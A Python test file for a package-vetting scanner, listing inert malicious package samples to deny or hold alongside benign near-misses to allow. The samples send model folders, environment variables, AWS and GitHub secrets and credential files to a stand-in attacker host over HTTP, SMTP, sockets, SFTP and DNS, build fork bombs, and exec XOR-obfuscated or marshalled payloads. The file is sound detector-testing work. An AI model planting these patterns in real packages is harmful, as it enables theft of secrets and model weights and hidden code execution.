"""The shapes ADR 0093 left undetected, written as an author who has read ADRs 0085, 0093
and 0096 would try them first (ADR 0098): a model folder named otherwise (``/srv/llm``,
``$MODEL_DIR``, ``str(Path.home() / 'models')``) packed and sent, the whole environment
spelt into text or copied key by key, a fork bomb by mutual recursion, XOR keys built at run
time (a digest of a word, the host's name), sends to a host written in the code that is no
URL (a mail server, a socket, SFTP, a DNS name), and bytecode shipped as a package's data
file read by ``pkgutil``.

Each sample is inert (vetting only reads files). The near-misses are what mail libraries,
metric senders, DNS helpers, model servers and crash reporters do."""

from __future__ import annotations

import hashlib

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

# ``import os; os.system('id')`` under keys built at run time.
HIDDEN_CODE = b"import os; os.system('id')"
SHA_KEY = hashlib.sha256(b"k").digest()
SHA_BLOB = [b ^ SHA_KEY[i % len(SHA_KEY)] for i, b in enumerate(HIDDEN_CODE)]
HOST_BLOB = [b ^ 0x5A for b in HIDDEN_CODE]  # any key: the host's name is not known here

DENIED: dict[str, dict[str, str]] = {
    # 1. A model folder named otherwise, packed and sent.
    "srv-llm-tarred-on-import": init(
        "import io, tarfile, requests\n"
        "buf = io.BytesIO()\n"
        "with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
        "    tar.add('/srv/llm')\n"
        "requests.post('https://attacker.invalid/u', data=buf.getvalue())\n"
    ),
    "srv-llm-walked-into-a-zip-on-import": init(
        "import io, os, zipfile, requests\n"
        "buf = io.BytesIO()\n"
        "with zipfile.ZipFile(buf, 'w') as z:\n"
        "    for root, _, names in os.walk('/srv/llm'):\n"
        "        for n in names:\n"
        "            z.write(os.path.join(root, n))\n"
        "requests.post('https://attacker.invalid/u', data=buf.getvalue())\n"
    ),
    "model-dir-variable-tarred-on-import": init(
        "import io, os, tarfile, requests\n"
        "buf = io.BytesIO()\n"
        "with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
        "    tar.add(os.environ.get('MODEL_DIR', '/opt/app'))\n"
        "requests.post('https://attacker.invalid/u', data=buf.getvalue())\n"
    ),
    "model-dir-variable-archived-when-called": init(
        "import os, shutil, requests\n"
        "def sync():\n"
        "    root = os.getenv('MODEL_DIR')\n"
        "    p = shutil.make_archive('/tmp/.m', 'gztar', root_dir=root)\n"
        "    requests.post('https://attacker.invalid/u', data=open(p, 'rb').read())\n"
    ),
    "home-models-made-text-by-str-on-import": init(
        "import shutil, requests\n"
        "from pathlib import Path\n"
        "p = shutil.make_archive('/tmp/.m', 'zip', str(Path.home() / 'models'))\n"
        "requests.post('https://attacker.invalid/u', data=open(p, 'rb').read())\n"
    ),
    # 2. The whole environment spelt into text, or copied key by key, sent when called.
    "environment-in-an-f-string-sent-when-called": init(
        "import requests, os\n"
        "def ping():\n"
        "    requests.post('https://attacker.invalid/e', data=f'{os.environ}')\n"
    ),
    "environment-formatted-by-percent-sent-when-called": init(
        "import os, requests\n"
        "def ping():\n"
        "    requests.get('https://attacker.invalid/e?d=%s' % (os.environ,))\n"
    ),
    "environment-copied-key-by-key-sent-when-called": init(
        "import os, requests\n"
        "def ping():\n"
        "    env = {k: os.environ[k] for k in os.environ}\n"
        "    requests.post('https://attacker.invalid/e', json=env)\n"
    ),
    # 3. A fork bomb by mutual recursion.
    "fork-bomb-by-mutual-recursion": init(
        "import os\ndef a():\n    os.fork()\n    b()\ndef b():\n    a()\na()\n"
    ),
    "process-bomb-by-mutual-recursion": init(
        "import multiprocessing\n"
        "def ping():\n"
        "    multiprocessing.Process(target=pong).start()\n"
        "    pong()\n"
        "def pong():\n"
        "    ping()\n"
        "ping()\n"
    ),
    # 4. XOR keys built at run time, decoding a payload that is run.
    "xor-key-from-a-digest-enumerated": init(
        "import hashlib\n"
        "KEY = hashlib.sha256(b'k').digest()\n"
        f"BLOB = {SHA_BLOB!r}\n"
        "exec(bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(BLOB)).decode())\n"
    ),
    "xor-key-from-a-digest-cycled": init(
        "import hashlib\n"
        "from itertools import cycle\n"
        "KEY = hashlib.sha256(b'k').digest()\n"
        f"BLOB = bytes({SHA_BLOB!r})\n"
        "exec(bytes(a ^ b for a, b in zip(BLOB, cycle(KEY))))\n"
    ),
    "xor-key-from-the-host-name": init(
        "import socket\n"
        "from itertools import cycle\n"
        "KEY = socket.gethostname().encode()\n"
        f"BLOB = bytes({HOST_BLOB!r})\n"
        "exec(bytes(a ^ b for a, b in zip(BLOB, cycle(KEY))))\n"
    ),
    "xor-key-from-the-host-name-by-operator-map": init(
        "import operator, socket\n"
        "from itertools import cycle\n"
        f"BLOB = {HOST_BLOB!r}\n"
        "exec(bytes(map(operator.xor, BLOB, cycle(socket.gethostname().encode()))))\n"
    ),
    # 5. Sends to a host written in the code that is no URL.
    "environment-mailed-when-called": init(
        "import os, smtplib\n"
        "def notify():\n"
        "    s = smtplib.SMTP('mail.attacker.invalid', 587)\n"
        "    s.sendmail('a@x.invalid', ['b@attacker.invalid'], str(dict(os.environ)))\n"
    ),
    "environment-written-to-a-socket-when-called": init(
        "import os, socket\n"
        "def sync():\n"
        "    with socket.create_connection(('attacker.invalid', 9000)) as s:\n"
        "        s.sendall(repr(os.environ).encode())\n"
    ),
    "weights-put-by-sftp-to-a-written-host-when-called": init(
        "import paramiko\n"
        "def sync():\n"
        "    c = paramiko.SSHClient()\n"
        "    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
        "    c.connect('attacker.invalid', username='u', password='p')\n"
        "    c.open_sftp().put('/srv/model.safetensors', '/drop/m')\n"
    ),
    "secret-hex-encoded-into-a-dns-name-when-called": init(
        "import os, socket\n"
        "def sync():\n"
        "    secret = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "    socket.gethostbyname(f'{secret.encode().hex()[:60]}.x.attacker.invalid')\n"
    ),
    "token-variable-looked-up-under-a-domain-when-called": init(
        "import os, socket\n"
        "def sync():\n"
        "    token = os.environ.get('GITHUB_TOKEN', '')\n"
        "    socket.getaddrinfo(token + '.t.attacker.invalid', 443)\n"
    ),
    "secret-resolved-by-dnspython-when-called": init(
        "import os\n"
        "import dns.resolver\n"
        "def sync():\n"
        "    k = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "    dns.resolver.resolve(k.encode().hex()[:60] + '.x.attacker.invalid', 'A')\n"
    ),
    # 6. Bytecode shipped as a data file, read by ``pkgutil`` and run on import.
    "packaged-bytecode-read-by-pkgutil-run-on-import": {
        "evpkg/__init__.py": (
            "import marshal, pkgutil\n"
            "exec(marshal.loads(pkgutil.get_data(__name__, 'cache.bin')))\n"
        ),
        "evpkg/cache.bin": "x",
    },
}

HELD: dict[str, dict[str, str]] = {
    # One variable, or a credential file, over a raw connection to a written host when called.
    "secret-written-to-a-socket-when-called": init(
        "import os, socket\n"
        "def sync():\n"
        "    s = socket.create_connection(('attacker.invalid', 9000))\n"
        "    s.sendall(os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n"
    ),
    "secret-sent-by-udp-when-called": init(
        "import os, socket\n"
        "def sync():\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    s.sendto(os.environ['AWS_SECRET_ACCESS_KEY'].encode(), ('attacker.invalid', 53))\n"
    ),
    "aws-credentials-put-by-sftp-when-called": init(
        "import os, paramiko\n"
        "def sync():\n"
        "    t = paramiko.Transport(('attacker.invalid', 22))\n"
        "    t.connect(username='u', password='p')\n"
        "    sftp = paramiko.SFTPClient.from_transport(t)\n"
        "    sftp.put(os.path.expanduser('~/.aws/credentials'), '/drop/c')\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    # 1. A model server unpacks into its variable's folder; a SageMaker-like trainer packs
    # it to its caller's bucket; a cache report walks the hub's folder.
    "model-server-unpacks-into-model-dir": init(
        "import os, tarfile\n"
        "def unpack(archive):\n"
        "    d = os.environ.get('MODEL_DIR', '/opt/ml/model')\n"
        "    with tarfile.open(archive) as t:\n"
        "        t.extractall(d)\n"
        "    return d\n"
    ),
    "trainer-packs-model-dir-to-the-callers-bucket": init(
        "import os, tarfile, boto3\n"
        "def save(bucket, key):\n"
        "    d = os.environ.get('SM_MODEL_DIR', '/opt/ml/model')\n"
        "    with tarfile.open('/tmp/model.tar.gz', 'w:gz') as t:\n"
        "        t.add(d, arcname='.')\n"
        "    boto3.client('s3').upload_file('/tmp/model.tar.gz', bucket, key)\n"
    ),
    "hub-cache-size-report": init(
        "import os\n"
        "def cache_size():\n"
        "    root = os.environ.get('HF_HOME', os.path.expanduser('~/.cache/huggingface'))\n"
        "    return sum(os.path.getsize(os.path.join(r, f)) for r, _, fs in os.walk(root) "
        "for f in fs)\n"
    ),
    # 2. The environment logged, or posted to the crash reporter's caller's address.
    "environment-logged-in-an-f-string": init(
        "import os, logging\n"
        "log = logging.getLogger(__name__)\n"
        "def debug():\n"
        "    log.debug(f'env: {os.environ}')\n"
    ),
    "crash-reporter-spells-the-environment-to-the-callers-dsn": init(
        "import os, requests\n"
        "def report(dsn, exc):\n"
        "    requests.post(dsn, data=f'{exc!r} {os.environ}')\n"
    ),
    # 3. A parser's mutual recursion makes no process.
    "mutual-recursion-of-a-parser": init(
        "def expr(toks):\n"
        "    t = term(toks)\n"
        "    return t\n"
        "def term(toks):\n"
        "    if toks and toks[0] == '(':\n"
        "        return expr(toks[1:])\n"
        "    return toks[:1]\n"
        "expr(['(', 'a'])\n"
    ),
    # 4. Masks and checksums XOR the caller's data, not a blob of the module's own.
    "xor-with-a-range-table": init(
        "TABLE = bytes(range(256))\n"
        "def mix(data):\n"
        "    return bytes(b ^ TABLE[i % 256] for i, b in enumerate(data))\n"
    ),
    "hash-keyed-mask-of-the-callers-data": init(
        "import hashlib\n"
        "from itertools import cycle\n"
        "def mask(data, secret):\n"
        "    key = hashlib.sha256(secret).digest()\n"
        "    return bytes(a ^ b for a, b in zip(data, cycle(key)))\n"
    ),
    "websocket-mask-from-urandom": init(
        "import os\n"
        "def mask(payload):\n"
        "    key = os.urandom(4)\n"
        "    return key + bytes(b ^ key[i % 4] for i, b in enumerate(payload))\n"
    ),
    # 5. A mail library, a mail handler configured from the environment, an FTP mirror, a
    # relay written as a default, metric senders, a Redis-like client, DNS helpers.
    "mail-library-sends-the-callers-message": init(
        "import smtplib\n"
        "from email.message import EmailMessage\n"
        "def send(host, port, sender, to, subject, body, user=None, password=None):\n"
        "    m = EmailMessage()\n"
        "    m['From'], m['To'], m['Subject'] = sender, to, subject\n"
        "    m.set_content(body)\n"
        "    with smtplib.SMTP(host, port) as s:\n"
        "        s.starttls()\n"
        "        if user:\n"
        "            s.login(user, password)\n"
        "        s.send_message(m)\n"
    ),
    "mail-handler-reads-its-host-from-the-environment": init(
        "import os, smtplib\n"
        "def alert(text):\n"
        "    host = os.environ.get('SMTP_HOST', 'localhost')\n"
        "    with smtplib.SMTP(host) as s:\n"
        "        s.sendmail('noreply@example.com', [os.environ['ALERT_TO']], text)\n"
    ),
    "alert-mailer-with-a-default-relay": init(
        "import smtplib\n"
        "RELAY = 'smtp.example.com'\n"
        "def alert(to, text):\n"
        "    with smtplib.SMTP(RELAY) as s:\n"
        "        s.sendmail('alerts@example.com', [to], text)\n"
    ),
    "ftp-mirror-uploads-the-callers-file": init(
        "import ftplib\n"
        "def upload(host, user, password, path, name):\n"
        "    with ftplib.FTP(host, user, password) as ftp, open(path, 'rb') as f:\n"
        "        ftp.storbinary('STOR ' + name, f)\n"
    ),
    "statsd-client-sends-metrics-by-udp": init(
        "import socket\n"
        "class StatsClient:\n"
        "    def __init__(self, host='localhost', port=8125):\n"
        "        self._addr = (host, port)\n"
        "        self._sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    def incr(self, name, n=1):\n"
        "        self._sock.sendto(f'{name}:{n}|c'.encode(), self._addr)\n"
    ),
    "graphite-sender-prefixes-the-host-name": init(
        "import socket, time\n"
        "def send(metric, value):\n"
        "    s = socket.create_connection(('graphite.example.com', 2003))\n"
        "    line = f'{socket.gethostname()}.{metric} {value} {int(time.time())}\\n'\n"
        "    s.sendall(line.encode())\n"
    ),
    "redis-like-client-signs-in-on-localhost": init(
        "import os, socket\n"
        "def connect():\n"
        "    s = socket.create_connection(('localhost', 6379))\n"
        "    s.sendall(b'AUTH ' + os.environ['REDIS_PASSWORD'].encode() + b'\\r\\n')\n"
        "    return s\n"
    ),
    "dns-resolver-library": init(
        "import socket\n"
        "def resolve(name, port=443):\n"
        "    return [ai[4][0] for ai in socket.getaddrinfo(name, port)]\n"
        "def check():\n"
        "    return socket.gethostbyname('pypi.org')\n"
    ),
    "service-found-by-its-variable-under-the-cluster-domain": init(
        "import os, socket\n"
        "def service_ip():\n"
        "    return socket.gethostbyname(os.environ['SERVICE_NAME'] + '.svc.cluster.local')\n"
    ),
    "database-host-from-the-environment-resolved": init(
        "import os, socket\n"
        "def addr():\n"
        "    return socket.getaddrinfo(os.environ.get('DB_HOST', 'db'), 5432)\n"
    ),
    # 6. A package's own data file read by ``pkgutil`` and parsed, not run.
    "packaged-json-read-by-pkgutil": {
        "evpkg/__init__.py": (
            "import json, pkgutil\nDATA = json.loads(pkgutil.get_data(__name__, 'd.json'))\n"
        ),
        "evpkg/d.json": '{"a": 1}',
    },
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
